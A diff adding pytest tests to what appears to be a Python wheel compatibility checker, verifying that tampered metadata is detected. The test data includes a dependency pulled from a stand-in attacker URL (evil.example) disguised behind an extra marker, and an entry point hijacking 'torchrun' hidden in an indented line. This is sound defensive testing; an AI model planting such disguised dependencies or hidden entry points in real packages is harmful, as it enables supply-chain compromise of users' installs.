@@ -225,3 +225,32 @@ def test_probe_that_cannot_start_is_an_error_finding(wheels: tuple[Path, Path, P
     assert report.exit_code == ERROR
     assert [f.code for f in report.layers[0].findings] == ["probe-failed"]
     assert "could not start" in report.layers[0].findings[0].message
+
+
+# --- layer 0 judges requirements and entry points as the build does ---
+
+@pytest.mark.parametrize("requirement", ['evilpkg @ https://evil.example/evilpkg-1-py3-none-any.whl;extra=="x"',
+                                         "evilpkg ; python_version >= \"3\" or platform_release == ';extra == \"x'"])
+def test_requirement_disguised_as_an_extra_is_a_metadata_change(wheels: tuple[Path, Path, Path], cache: Path,
+                                                                tmp_path: Path, requirement: str) -> None:
+    with zipfile.ZipFile(wheels[1]) as zf:
+        meta = zf.read(f"{DI}/METADATA").decode()
+    head, sep, body = meta.partition("\n\n")
+    meta = f"{head}\nProvides-Extra: x\nRequires-Dist: {requirement}{sep}{body}"
+    combined = replaced(wheels[1], tmp_path / "req" / wheels[1].name, {f"{DI}/METADATA": meta.encode()})
+    report = run_check(wheels[0], combined, (0,))
+    assert [f.code for f in report.layers[0].findings] == ["metadata-changed"], report.to_json()
+    assert report.exit_code == INCOMPATIBLE
+
+
+def test_entry_point_hidden_in_an_indented_line_is_incompatible(wheels: tuple[Path, Path, Path], cache: Path,
+                                                                tmp_path: Path) -> None:
+    with zipfile.ZipFile(wheels[1]) as zf:
+        eps = zf.read(f"{DI}/entry_points.txt").decode()
+    hidden = eps.replace("mlu = torch_mlu:_autoload\n",
+                         "mlu = torch_mlu:_autoload\n  [console_scripts]\n  torchrun = torch_mlu:_autoload\n")
+    assert hidden != eps
+    combined = replaced(wheels[1], tmp_path / "eps" / wheels[1].name, {f"{DI}/entry_points.txt": hidden.encode()})
+    report = run_check(wheels[0], combined, (0,))
+    assert [f.code for f in report.layers[0].findings] == ["entry-points-unreadable"], report.to_json()
+    assert report.exit_code == INCOMPATIBLE and "indented line" in report.layers[0].findings[0].message
